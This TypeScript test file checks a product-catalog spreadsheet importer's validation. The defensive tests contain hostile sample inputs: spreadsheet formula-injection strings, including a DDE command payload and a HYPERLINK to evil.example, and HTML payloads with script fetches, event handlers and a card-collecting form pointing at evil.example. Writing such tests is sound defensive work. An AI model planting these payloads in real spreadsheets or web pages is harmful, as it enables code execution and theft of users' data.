import { readFile } from "node:fs/promises";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { findMistakes } from "#app/domain/intake/find-mistakes.ts";
import { exportCatalog } from "#app/domain/product/export-catalog.ts";
import { writeDelimited } from "#app/services/sheets/write-delimited.ts";
import { writeMarkedSheet } from "#app/services/sheets/write-marked-sheet.ts";
import { workbookOf } from "#tests/unit/intake/sheet-files.ts";
import { headings, type ImportStage, openImportStage, row } from "../imports/import-stage.ts";
import { expectRows, expectTold } from "./expectations.ts";

let stage: ImportStage;
beforeAll(async () => {
  stage = await openImportStage();
});
afterAll(() => stage.close());

test("duplicate codes: the later row is refused and names the earlier", async () => {
  await expectRows(
    stage,
    { sheet: [headings, row("가-1"), row("B"), row("가-1".normalize("NFD"), { 판매가: "무료" }), row("B")] },
    {
      outcomes: { 2: "accepted", 3: "accepted", 4: "refused", 5: "refused" },
      ofRows: [
        { code: "sku.repeated", path: { row: 4, field: "sku" }, params: { earlier: 2 } },
        { code: "price.unreadable", path: { row: 4, field: "price" }, raw: "무료" },
        { code: "sku.repeated", path: { row: 5, field: "sku" }, params: { earlier: 3 } },
      ],
    },
  );
});

test.each(["-12000", "-12,000원", "0", "99", "100000010", "1".repeat(30), `1${",000".repeat(20)}`])(
  "negative and huge prices: %s is out of range",
  async (raw) => {
    await expectRows(
      stage,
      { sheet: [headings, row("A", { 판매가: raw }), row("B")] },
      {
        outcomes: { 2: "refused", 3: "accepted" },
        ofRows: [{ code: "price.out_of_range", path: { row: 2, field: "price" }, raw }],
      },
    );
  },
);

test("negative and huge numbers elsewhere are refused too, by their own column", async () => {
  const huge = "9".repeat(400);
  await expectRows(
    stage,
    { sheet: [[...headings, "배송비"], [...row("A", { 재고수량: huge }), "-1"], [...row("B"), huge], row("C")] },
    {
      outcomes: { 2: "refused", 3: "refused", 4: "accepted" },
      ofRows: [
        { code: "stock.out_of_range", path: { row: 2, field: "stock" } },
        { code: "shipping_fee.unreadable", path: { row: 2, field: "shipping_fee" } },
        { code: "shipping_fee.unreadable", path: { row: 3, field: "shipping_fee" } },
      ],
    },
  );
});

test("full-width digits are digits", async () => {
  const wide = row("Ｗ１".normalize("NFKC"), { 판매가: "１２，０００원", 재고수량: "３０" });
  const importId = await expectRows(stage, { sheet: [headings, wide] }, { outcomes: { 2: "accepted" } });
  await stage.taken(importId);
  const version = await stage.database.productVersion.findFirstOrThrow({
    where: { product: { sku: "W1" } },
    include: { variants: true },
  });
  expect(version).toMatchObject({ price: 12_000, variants: [{ stock: 30 }] });
});

describe("cells starting with =, +, @", () => {
  const formulas = ['=HYPERLINK("https://evil.example","x")', "+1+1", "@SUM(A1)", "-2+3", "=cmd|' /C calc'!A0"];

  test("are text: kept as they stand, exported with an apostrophe, and the same when they come back", async () => {
    const sheet = [headings, ...formulas.map((name, at) => row(`X-${at}`, { 상품명: name, 제조자: name }))];
    const outcomes = Object.fromEntries(formulas.map((_, at) => [at + 2, "accepted" as const]));
    const importId = await expectRows(stage, { sheet }, { outcomes });
    await stage.taken(importId);
    const names = await stage.database.productVersion.findMany({
      where: { product: { sku: { startsWith: "X-" } } },
      orderBy: { product: { sku: "asc" } },
    });
    expect(names.map(({ name }) => name)).toEqual(formulas);

    const { headings: first, rows } = await exportCatalog(stage.database, stage.storeId);
    const written = writeDelimited([first, ...rows]);
    for (const record of written.split("\r\n")) {
      for (const cell of record.split(",")) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+@]/);
    }
    const again = await stage.judged({ sheet: Buffer.from(written) });
    const { accepted, refused, skipped } = (await stage.found(again)).rows;
    expect({ accepted, refused, skipped }).toEqual({ accepted: 0, refused: 0, skipped: rows.length });
  });

  test("are text in the sheet that is handed back with its marks", async () => {
    const path = join(stage.folder, "marked.xlsx");
    async function* rows() {
      yield { row: 1, cells: formulas };
    }
    await writeMarkedSheet(path, { name: "상품", rows: rows(), marks: new Map() });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await readFile(path)).buffer as ArrayBuffer);
    const cells = formulas.map((_, at) => book.worksheets[0]?.getCell(1, at + 1));
    expect(cells.map((cell) => [cell?.type, cell?.value])).toEqual(
      formulas.map((text) => [ExcelJS.ValueType.String, text]),
    );
  });

  test("as a price or a stock are no formula that somebody works out", async () => {
    await expectRows(
      stage,
      { sheet: [headings, row("A", { 판매가: "=6000*2", 재고수량: "+3" }), row("B")] },
      {
        outcomes: { 2: "refused", 3: "accepted" },
        ofRows: [
          { code: "price.unreadable", path: { row: 2, field: "price" }, raw: "=6000*2" },
          { code: "stock.unreadable", path: { row: 2, field: "stock" }, raw: "+3" },
        ],
      },
    );
  });
});

test("script and event handlers in descriptions are taken out and told; the rest stays", async () => {
  const hostile = [
    "<p>좋아요</p><script>fetch('https://evil.example')</script>",
    '<p onclick="steal()">좋아요</p>',
    "<p>좋아요</p><img src=x onerror=alert(1)>",
    '<p>좋아요</p><a href="javascript:alert(1)">눌러요</a>',
    "<p>좋아요</p><iframe src='https://evil.example'></iframe>",
    '<p style="background:url(https://evil.example)">좋아요</p>',
    "<p>좋아요</p><svg/onload=alert(1)>",
    "<p>좋아요</p><form action='https://evil.example'><input name=card></form>",
  ];
  const importId = await expectRows(
    stage,
    { sheet: [[...headings, "상세설명"], ...hostile.map((text, at) => [...row(`S-${at}`), text]), row("S-9")] },
    {
      outcomes: Object.fromEntries([...hostile, ""].map((_, at) => [at + 2, "accepted" as const])),
      ofRows: hostile.map((raw, at) => ({
        ...({ code: "description.sanitised", severity: "warning" } as const),
        path: { row: at + 2, field: "description" },
        raw,
      })),
    },
  );
  await stage.taken(importId);
  const versions = await stage.database.productVersion.findMany({ where: { product: { sku: { startsWith: "S-" } } } });
  const kept = versions.map(({ description }) => description).filter((text) => text !== "");
  expect(kept).toHaveLength(hostile.length);
  for (const html of kept) {
    expect(html).toContain("좋아요");
    expect(html).not.toMatch(/script|onclick|onerror|onload|iframe|evil|style|form|input/i);
  }
});

describe("1,000,000-character cell", () => {
  const million = 1_000_000;

  test("in a csv costs its row or a warning, and no other row", async () => {
    const long = "가".repeat(million);
    const names = Array.from({ length: million / 8 }, (_, at) => `${at}`.padStart(7, "0")).join(",");
    const rows = [
      [...row("M-1", { 상품명: long }), "", ""],
      [...row("M-2", { 판매가: "1".repeat(million) }), "", ""],
      [...row("M-3"), long, ""],
      [...row("M-4"), "", names],
      row("M-5"),
    ];
    const importId = await stage.judged([[...headings, "상세설명", "사진"], ...rows]);
    const verdicts = await stage.verdicts(importId);
    expect(verdicts.map(({ outcome }) => outcome)).toEqual(["refused", "refused", "accepted", "accepted", "accepted"]);
    const [name, price, description, photos, last] = verdicts.map(({ issues }) => issues);
    expectTold(name ?? [], [{ code: "name.unreadable", path: { row: 2, field: "name" } }]);
    expectTold(price ?? [], [{ code: "price.out_of_range", path: { row: 3, field: "price" } }]);
    expect([description, last]).toEqual([[], []]);
    const missing = Array.from({ length: 100 }, () => ({
      code: "photo.missing" as const,
      path: { row: 5, field: "photos" },
    }));
    expectTold(photos ?? [], [{ code: "photos.too_many", params: { maximum: 100, actual: 125_000 } }, ...missing]);
    // What is too long to be mended on a screen is not sent to one.
    const { rows: shown } = await findMistakes(stage.database, { importId, code: null, after: -1 });
    expect(shown.map(({ row, cells, others }) => [row, cells.length, others.length])).toEqual([
      [2, 0, 1],
      [3, 0, 1],
    ]);
  });

  test("in a workbook, and as a heading", async () => {
    const cell = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
    const line = (cells: string[]) => `<row>${cells.map(cell).join("")}</row>`;
    const long = "가".repeat(million);
    const data = [[...headings, long], row("W-1", { 상품명: long }), [...row("W-2"), "값"]].map(line).join("");
    await expectRows(
      stage,
      { name: "상품표.xlsx", sheet: await workbookOf({ sheets: [{ data }] }) },
      {
        outcomes: { 2: "refused", 3: "accepted" },
        ofSheet: [{ code: "sheet.column_unused", severity: "warning" }],
        ofRows: [{ code: "name.unreadable", path: { row: 2, field: "name" } }],
      },
    );
  });
});
